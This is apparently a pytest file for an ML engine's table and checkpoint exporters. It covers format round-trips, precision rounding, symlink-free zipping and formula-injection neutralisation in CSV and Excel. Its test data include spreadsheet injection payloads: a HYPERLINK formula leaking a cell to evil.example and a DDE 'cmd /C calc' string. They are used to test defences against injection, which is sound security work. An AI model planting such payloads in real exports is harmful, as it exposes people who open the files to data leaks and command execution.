"""Every export format parses back to the same rows; spreadsheet formulas in text cells are neutralised in CSV
and Excel (numbers untouched); JSON is strict; a checkpoint zips with its files; ONNX is refused with a message."""

from __future__ import annotations

import csv
import io
import json
import re
import types
import zipfile

import openpyxl
import pandas as pd
import pytest

from engine.analysis import exports as exports_module
from engine.analysis.exports import FORMATS, export_onnx, export_table, file_name, neutralise, zip_checkpoint
from engine.core.errors import UserError

MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2+3"]


@pytest.fixture
def table() -> pd.DataFrame:
    return pd.DataFrame({
        "technique": ["int8 PTQ", "prune_l1 50% {x}", "kd student | cnn_s", "#4 & $"],
        "accuracy (%)": [96.8, float("nan"), 68.7, -0.5],
        "parameters": [426346, 213946, 6252, 10],
        "simulated": [False, True, False, True],
    })


def parse(fmt: str, data: bytes) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(data))
    if fmt == "excel":
        return pd.read_excel(io.BytesIO(data))
    if fmt == "parquet":
        return pd.read_parquet(io.BytesIO(data))
    doc = json.loads(data, parse_constant=lambda c: pytest.fail(f"bare {c} in JSON"))
    return pd.DataFrame(doc["rows"], columns=doc["columns"])


@pytest.mark.parametrize("fmt", ["csv", "excel", "parquet", "json"])
def test_a_format_parses_back_to_the_same_rows(table, fmt):
    data, mime, ext = export_table(table, fmt, "Techniques compared")
    assert (mime, ext) == (FORMATS[fmt].mime, FORMATS[fmt].extension)
    back = parse(fmt, data)
    pd.testing.assert_frame_equal(back, table, check_dtype=False, check_column_type=False)


def test_markdown_has_a_row_per_row_with_escaped_pipes(table):
    text = export_table(table, "markdown", "Compared")[0].decode()
    lines = text.strip().splitlines()
    assert lines[0] == "**Compared**"
    header, rule, *rows = lines[2:]
    assert header == "| technique | accuracy (%) | parameters | simulated |"
    assert rule == "|:---|---:|---:|:---|"
    assert len(rows) == len(table)
    assert rows[0] == "| int8 PTQ | 96.8 | 426346 | no |"
    assert rows[1] == "| prune_l1 50% {x} |  | 213946 | yes |"  # NaN: an empty cell
    assert rows[2].startswith(r"| kd student \| cnn_s |")  # a pipe in a cell does not split it
    assert rows[3] == "| #4 & $ | -0.5 | 10 | yes |"


def test_latex_is_a_tabular_with_special_characters_escaped(table):
    text = export_table(table, "latex", "a_b")[0].decode()
    lines = text.strip().splitlines()
    assert lines[0] == r"% a\_b" and lines[1] == r"\begin{tabular}{lrrl}" and lines[-1] == r"\end{tabular}"
    body = [ln for ln in lines if ln.endswith(r"\\")]
    assert body[0] == r"technique & accuracy (\%) & parameters & simulated \\"
    assert len(body) == 1 + len(table)
    assert r"prune\_l1 50\% \{x\} &  & 213946 & yes \\" in body
    assert r"\#4 \& \$ & -0.5 & 10 & yes \\" in body


def test_a_table_with_named_rows_keeps_them_as_its_first_column():
    t3 = pd.DataFrame({"student / kneedle": [95.0, None]}, index=["ACC(t) (%)", "P(s) breakpoint"])
    back = parse("csv", export_table(t3, "csv")[0])
    assert list(back.columns) == ["row", "student / kneedle"]
    assert list(back["row"]) == ["ACC(t) (%)", "P(s) breakpoint"]
    pivot = pd.DataFrame([[1.0, 2.0]], columns=[0.3, 0.5])  # a pivot's columns can be numbers
    assert list(parse("parquet", export_table(pivot, "parquet")[0]).columns) == ["0.3", "0.5"]


def test_formula_cells_are_neutralised_in_csv_while_numbers_stay_numbers():
    df = pd.DataFrame({"note": MALICIOUS, "delta": [-0.5, -2.0, 1.0, -3.0], "=bad header": ["a", "b", "c", "d"]})
    text = export_table(df, "csv")[0].decode()
    back = pd.read_csv(io.StringIO(text))
    assert list(back["note"]) == ["'" + v for v in MALICIOUS]
    assert list(back.columns) == ["note", "delta", "'=bad header"]
    assert back["delta"].dtype == float and list(back["delta"]) == [-0.5, -2.0, 1.0, -3.0]
    for line in text.splitlines()[1:]:
        assert not line.startswith(("=", "+", "@"))  # no cell in the first column starts a formula
    assert "\n-0.5," not in text and ",-0.5," in text  # the number is written as a number


def test_formula_cells_are_neutralised_in_excel_while_numbers_stay_numbers():
    df = pd.DataFrame({"note": MALICIOUS, "delta": [-0.5, -2.0, 1.0, -3.0]})
    data = export_table(df, "excel", "Sheet: a/b")[0]
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Sheet  a b"
    notes = [sheet.cell(row=r, column=1) for r in range(2, 6)]
    assert [c.value for c in notes] == ["'" + v for v in MALICIOUS]
    assert all(c.data_type == "s" for c in notes)  # text, not formulas
    delta = sheet.cell(row=2, column=2)
    assert delta.data_type == "n" and delta.value == -0.5


def test_neutralise_leaves_other_text_and_missing_values_alone():
    df = pd.DataFrame({"t": ["ok", None, "a=b", "-"], "n": [1, -1, 2, 3]})
    out = neutralise(df)
    assert [out["t"][i] for i in (0, 2, 3)] == ["ok", "a=b", "'-"] and pd.isna(out["t"][1])
    assert list(out["n"]) == [1, -1, 2, 3]


def test_json_is_strict_nan_and_infinities_are_null():
    df = pd.DataFrame({"a": [float("nan"), float("inf"), -float("inf"), 1.5], "t": pd.to_datetime(
        [0, 1, 2, 3], unit="s", utc=True), "b": [None, "x", "y", "z"]})
    data = export_table(df, "json", "strict")[0]
    doc = json.loads(data, parse_constant=lambda c: pytest.fail(f"bare {c}"))
    json.dumps(doc, allow_nan=False)
    assert doc["title"] == "strict" and doc["columns"] == ["a", "t", "b"]
    assert [r["a"] for r in doc["rows"]] == [None, None, None, 1.5]
    assert doc["rows"][0]["t"] == "1970-01-01T00:00:00+00:00" and doc["rows"][0]["b"] is None


def test_excel_takes_times_with_a_zone_and_parquet_takes_mixed_columns():
    df = pd.DataFrame({"when": pd.to_datetime([0], unit="s", utc=True), "mixed": pd.Series([1.5], dtype=object)})
    df.loc[1] = [pd.Timestamp(1, unit="s", tz="UTC"), "text"]
    assert len(pd.read_excel(io.BytesIO(export_table(df, "excel")[0]))) == 2
    assert list(pd.read_parquet(io.BytesIO(export_table(df, "parquet")[0]))["mixed"]) == ["1.5", "text"]


def test_an_unknown_format_names_the_known_ones(table):
    with pytest.raises(UserError, match="choose one of: csv, excel, markdown, latex, parquet, json"):
        export_table(table, "xml")
    assert file_name("Accuracy (%) by weight width", "csv") == "accuracy-by-weight-width.csv"


def test_a_checkpoint_zips_with_its_files_and_no_links(tmp_path):
    ckpt = tmp_path / "bits-4"
    ckpt.mkdir()
    (ckpt / "meta.json").write_text('{"arch": "cnn_s"}')
    (ckpt / "model.safetensors").write_bytes(b"\0" * 64)
    (tmp_path / "secret").write_text("not for download")
    (ckpt / "link").symlink_to(tmp_path / "secret")
    with zipfile.ZipFile(io.BytesIO(zip_checkpoint(str(ckpt)))) as zf:
        assert sorted(zf.namelist()) == ["bits-4/meta.json", "bits-4/model.safetensors"]
        assert zf.read("bits-4/model.safetensors") == b"\0" * 64


def test_a_missing_or_unsaved_checkpoint_is_refused_with_a_message(tmp_path):
    with pytest.raises(UserError, match="is gone"):
        zip_checkpoint(str(tmp_path / "deleted"))
    with pytest.raises(UserError, match="was not saved"):
        zip_checkpoint("")
    with pytest.raises(UserError, match="no meta.json"):
        zip_checkpoint(str(tmp_path))


def test_onnx_without_the_onnx_packages_is_a_message(tmp_path, monkeypatch):
    (tmp_path / "meta.json").write_text("{}")

    def missing(directory, out=None):
        raise ModuleNotFoundError("No module named 'onnx'")  # what the exporter's lazy import raises

    monkeypatch.setattr(exports_module, "export_checkpoint", missing)
    with pytest.raises(UserError, match="ONNX export is not available .*'onnx'"):
        export_onnx(str(tmp_path))


def test_onnx_goes_through_the_export_module(tmp_path, monkeypatch):
    (tmp_path / "meta.json").write_text("{}")
    monkeypatch.setattr(exports_module, "export_checkpoint",
                        lambda directory, out=None: types.SimpleNamespace(data=b"onnx", max_abs_diff=1e-6))
    result = export_onnx(str(tmp_path))
    assert (result.data, result.max_abs_diff, result.file_name) == (b"onnx", 1e-6, f"{tmp_path.name}.onnx")


FORMULA_LINES = ["a\r=2+2", "\r=1", "x\n@SUM(1)", "ok\r\n+1", "\x01=HYPERLINK(\"http://evil.example\")", "\x1f\x7f-2"]


def test_a_carriage_return_in_csv_is_quoted_and_no_line_of_a_cell_starts_a_formula():
    text = export_table(pd.DataFrame({"note": FORMULA_LINES}), "csv")[0].decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(FORMULA_LINES)  # a CR inside a cell is quoted, so it starts no row
    assert [r[0] for r in rows[1:]] == ["a\r'=2+2", "\r'=1", "x\n'@SUM(1)", "ok\r\n'+1",
                                        "'=HYPERLINK(\"http://evil.example\")", "'-2"]
    for line in re.split(r"\r\n|\r|\n", text):  # as a reader that splits on any line break sees it
        assert not line.lstrip('"').startswith(("=", "+", "-", "@"))


def test_excel_strips_control_characters_before_the_formula_check():
    data = export_table(pd.DataFrame({"note": FORMULA_LINES}), "excel")[0]
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(FORMULA_LINES))]
    assert all(c.data_type == "s" for c in cells)  # text, not formulas
    for c in cells:
        for line in re.split(r"\r\n|\r|\n", c.value):
            assert not line.startswith(("=", "+", "-", "@")), c.value
    assert cells[4].value == "'=HYPERLINK(\"http://evil.example\")"


def noisy() -> pd.DataFrame:
    return pd.DataFrame({
        "technique": ["int8 PTQ", "prune 50%"],
        "accuracy (%)": [94.80000138282776, 68.70000123977661],
        "accuracy": [0.9480000138282776, 0.6870000123977661],
        "latency b1 (ms)": [0.123456789, 12.3456789],
        "latency_ms_b32": [1.23456789, 123.456789],
        "size (KiB)": [416.3828125, 1.0009765625],
        "compression rate (x)": [3.9876543, 1.0],
        "parameters": [426346, 213946],
    })


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_measured_values_are_exported_to_the_precision_they_were_measured_at(fmt):
    back = parse(fmt, export_table(noisy(), fmt)[0])
    assert list(back["accuracy (%)"]) == [94.8, 68.7]  # 2 decimals of a percentage
    assert list(back["accuracy"]) == [0.948, 0.687]  # 4 decimals of a fraction
    assert list(back["latency b1 (ms)"]) == [0.123, 12.3] and list(back["latency_ms_b32"]) == [1.23, 123.0]
    assert list(back["size (KiB)"]) == [416.383, 1.001] and list(back["compression rate (x)"]) == [3.99, 1.0]
    assert list(back["parameters"]) == [426346, 213946]  # counts are exact
    assert "94.80000138282776" not in export_table(noisy(), fmt)[0].decode()


def test_full_precision_is_kept_when_asked_for():
    back = parse("csv", export_table(noisy(), "csv", full_precision=True)[0])
    assert list(back["accuracy (%)"]) == [94.80000138282776, 68.70000123977661]
    assert list(back["latency b1 (ms)"]) == [0.123456789, 12.3456789]


def test_no_table_or_page_calls_a_kibibyte_a_kilobyte():
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    for path in [*root.glob("engine/**/*.py"), *root.glob("pages/**/*.py")]:
        assert "(KB)" not in path.read_text(), path
